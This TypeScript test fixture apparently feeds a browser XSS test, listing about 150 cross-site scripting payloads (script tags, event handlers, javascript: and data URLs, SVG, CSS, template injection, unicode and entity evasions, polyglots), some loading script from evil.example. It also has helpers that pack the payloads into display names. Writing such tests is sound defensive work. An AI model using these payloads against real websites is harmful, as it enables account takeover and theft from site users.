import { DisplayNameSchema } from "../../lib/shared/schemas.ts";

/**
 * Hostile text for the browser XSS test. In each template `XSS()` becomes a call to
 * `__xssHit(n)` (n = the payload's index), `#N#` becomes n, and `@ME` the viewer's @handle,
 * so any payload that runs says which one it was.
 */
const TEMPLATES: string[] = [
  // Script elements and ways out of the element or attribute they land in.
  "<script>XSS()</script>",
  "<ScRiPt>XSS()</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  '"><script>XSS()</script>',
  "'><script>XSS()</script>",
  "</script><script>XSS()</script>",
  "</script><!--<script>XSS()//-->",
  "<!--</script><script>XSS()</script>-->",
  "<scr<script>ipt>XSS()</scr</script>ipt>",
  '<script type="text/javascript">XSS()</script>',
  "<script>alert(1)</script>",
  "</title><script>XSS()</script>",
  "</textarea><script>XSS()</script>",
  "</style><script>XSS()</script>",
  '<script src="data:text/javascript,XSS()"></script>',
  "<script>document.write('<img src=x onerror=XSS()>')</script>",
  "<<script>XSS()//<</script>",
  "<script>XSS()</script",
  "--><script>XSS()</script>",
  "]]><script>XSS()</script>",
  "<![CDATA[<script>XSS()</script>]]>",
  // Event handlers.
  "<img src=x onerror=XSS()>",
  '<img src="x" onerror="XSS()">',
  "<img/src/onerror=XSS()>",
  "<img src=x onerror=alert(1)>",
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  "<img src=x onerror=&#95;&#95;xssHit(#N#)>",
  "<img srcset=',,,,x' onerror=XSS()>",
  "<img src=x onerror=XSS() ",
  "<svg onload=XSS()>",
  "<svg/onload=XSS()//",
  "<body onload=XSS()>",
  "<iframe onload=XSS()></iframe>",
  "<input autofocus onfocus=XSS()>",
  "<input type=image src=x onerror=XSS()>",
  "<details open ontoggle=XSS()>",
  "<video><source onerror=XSS()></video>",
  "<audio src=x onerror=XSS()>",
  "<marquee onstart=XSS()>x</marquee>",
  '<div onmouseover="XSS()">hover</div>',
  "<a onmouseover=XSS()>x</a>",
  '<a href="#" onclick="XSS()">x</a>',
  "<select autofocus onfocus=XSS()>",
  "<textarea autofocus onfocus=XSS()>",
  "<keygen autofocus onfocus=XSS()>",
  "<object data=x onerror=XSS()>",
  "<style onload=XSS()></style>",
  "<link rel=stylesheet href=x onerror=XSS()>",
  "<form><button formaction=javascript:XSS()>x</button></form>",
  "<isindex type=image src=1 onerror=XSS()>",
  "<button popovertarget=p>x</button><div id=p popover onbeforetoggle=XSS()>",
  "<picture><source srcset=x><img onerror=XSS()></picture>",
  "<body background=javascript:XSS()>",
  "<table background=javascript:XSS()>",
  // Script URLs.
  "javascript:XSS()",
  "JaVaScRiPt:XSS()",
  "java\tscript:XSS()",
  "&#106;avascript:XSS()",
  "data:text/html,<script>XSS()</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  '<a href="javascript:XSS()">click</a>',
  "<a href=javascript&colon;XSS()>x</a>",
  '<a href="data:text/html,<script>XSS()</script>">x</a>',
  '<iframe src="javascript:XSS()"></iframe>',
  '<iframe srcdoc="<script>parent.XSS()</script>"></iframe>',
  '<embed src="javascript:XSS()">',
  '<object data="javascript:XSS()">',
  '<meta http-equiv="refresh" content="0;url=javascript:XSS()">',
  '<base href="javascript:XSS()//">',
  '<form action="javascript:XSS()"><input type=submit>',
  "<iframe src=//evil.example></iframe>",
  // Autolinks that try to leave their href.
  'https://evil.example/"onmouseover="XSS()',
  "https://evil.example/<script>XSS()</script>",
  "http://x.example/'onclick='XSS()'",
  'https://a.example/?q="><img src=x onerror=XSS()>',
  "https://bank.example@evil.example/",
  "https://evil.example/javascript:XSS()",
  "https://ok.example/**<img src=x onerror=XSS()>**",
  // SVG and MathML.
  "<svg><script>XSS()</script></svg>",
  "<svg><animate onbegin=XSS() attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:XSS()"><text x=20 y=20>x</text></a></svg>',
  "<svg><foreignObject><img src=x onerror=XSS()></foreignObject></svg>",
  "<svg><set attributeName=onload to=XSS()>",
  "<svg><style><img src=x onerror=XSS()></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=XSS()>",
  '<math href="javascript:XSS()">x</math>',
  '<math><a xlink:href="javascript:XSS()">x</a></math>',
  // CSS.
  '<div style="width:expression(XSS())">',
  '<style>*{background:url("javascript:XSS()")}</style>',
  '<div style="background-image:url(javascript:XSS())">',
  "<style>@import 'https://evil.example/x.css';</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  '<div style="-moz-binding:url(//evil.example/x.xml#xss)">',
  "x{behavior:url(#default#time2)}",
  // Template injection.
  "{{constructor.constructor('XSS()')()}}",
  "{{$on.constructor('XSS()')()}}",
  "${XSS()}",
  "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
  "<%= XSS() %>",
  "#{XSS()}",
  "[[${XSS()}]]",
  "<div v-html=\"'<img src=x onerror=XSS()>'\"></div>",
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=XSS()');}}",
  // Markdown-looking link tricks and markup around tags.
  "[click](javascript:XSS())",
  "[click](data:text/html,<script>XSS()</script>)",
  '![x](x" onerror="XSS())',
  '[x](https://ok.example "t\\" onmouseover=XSS()")',
  "<javascript:XSS()>",
  "[a](javascript://%0aXSS())",
  "[x](vbscript:msgbox(1))",
  "[<img src=x onerror=XSS()>](https://ok.example)",
  "**<img src=x onerror=XSS()>**",
  "_<svg onload=XSS()>_",
  "`<script>XSS()</script>`",
  // Mentions glued to markup.
  "@ME<script>XSS()</script>",
  "<@ME onmouseover=XSS()>",
  '@ME"><img src=x onerror=XSS()>',
  "`@ME` <b onclick=XSS()>x</b>",
  // Unicode, bidi and look-alike tricks.
  "\u202e<img src=x onerror=XSS()>\u202c",
  "\u200b<script>\u200bXSS()</script>",
  "\ufeff<img src=x onerror=XSS()>",
  "\u2028<svg onload=XSS()>\u2029",
  "\uff1cscript\uff1eXSS()\uff1c/script\uff1e",
  "\ufe64script\ufe65XSS()\ufe64/script\ufe65",
  "<\u017fcript>XSS()</\u017fcript>",
  "e\u0301<img src=x onerror=XSS()>",
  "\u2067<svg onload=XSS()>\u2069",
  "%3Cscript%3EXSS()%3C/script%3E",
  "\\u003cscript\\u003eXSS()\\u003c/script\\u003e",
  "\\x3cscript\\x3eXSS()\\x3c/script\\x3e",
  "<scr\\0ipt>XSS()</script>",
  // HTML entities, which must stay as typed.
  "&lt;script&gt;XSS()&lt;/script&gt;",
  "&#60;img src=x onerror=XSS()&#62;",
  "&#x3C;svg onload=XSS()&#x3E;",
  "&amp;lt;script&amp;gt;XSS()&amp;lt;/script&amp;gt;",
  "&quot;&gt;&lt;img src=x onerror=XSS()&gt;",
  "&#0000060script&#0000062XSS()&#0000060/script&#0000062",
  // Quotes nested to break out of attributes and strings.
  '" onmouseover="XSS()',
  "' onmouseover='XSS()",
  "` onmouseover=XSS() `",
  '"/><img src=x onerror=XSS()>',
  "'\"><svg/onload=XSS()>",
  "\"';XSS();//",
  '\\"; XSS(); //',
  "</option></select><img src=x onerror=XSS()>",
  '<noscript><p title="</noscript><img src=x onerror=XSS()>">',
  "<template><img src=x onerror=XSS()></template>",
  "<xmp><img src=x onerror=XSS()></xmp>",
  "<plaintext><img src=x onerror=XSS()>",
  // Polyglots.
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=XSS() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=XSS()//>\\x3e",
  '\'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>\'-->"></script><script>alert(1)</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id&%23x29;>\'">',
  '"><svg/onload=XSS()>"><img src=x onerror=XSS()>\'><script>XSS()</script>',
  'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=XSS()//>',
  '-->\'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)``>',
];

/** The corpus for a viewer: every template with its hit call, index and @handle filled in. */
export function corpus(meHandle: string): string[] {
  return TEMPLATES.map((t, i) =>
    t.replaceAll("XSS()", `__xssHit(${i})`)
      .replaceAll("#N#", String(i))
      .replaceAll("@ME", `@${meHandle}`)
  );
}

/** Packs strings in order into as few batches as fit in `max` characters, joined by `sep`. */
export function pack(items: string[], max: number, sep: string): string[] {
  const out: string[] = [];
  let current = "";
  for (const item of items) {
    if (item.length > max) continue;
    const joined = current ? `${current}${sep}${item}` : item;
    if (joined.length <= max) current = joined;
    else {
      out.push(current);
      current = item;
    }
  }
  if (current) out.push(current);
  return out;
}

/**
 * Display names for n people, drawn from every part of the corpus: each is the shortest
 * payloads of one slice that fit in a name and pass the schema (no invisible characters).
 */
export function nameBatches(payloads: string[], n: number): string[] {
  const safe = payloads.filter((p) =>
    p.length <= 64 && DisplayNameSchema.safeParse(p).success
  );
  const size = Math.ceil(safe.length / n);
  return Array.from({ length: n }, (_, i) => {
    const slice = safe.slice(i * size, (i + 1) * size);
    return pack(slice.sort((a, b) => a.length - b.length), 64, " ")[0];
  });
}

/** Splits items round-robin into n groups, so every group gets every kind of payload. */
export function deal<T>(items: T[], n: number): T[][] {
  const groups: T[][] = Array.from({ length: n }, () => []);
  items.forEach((item, i) => groups[i % n].push(item));
  return groups;
}
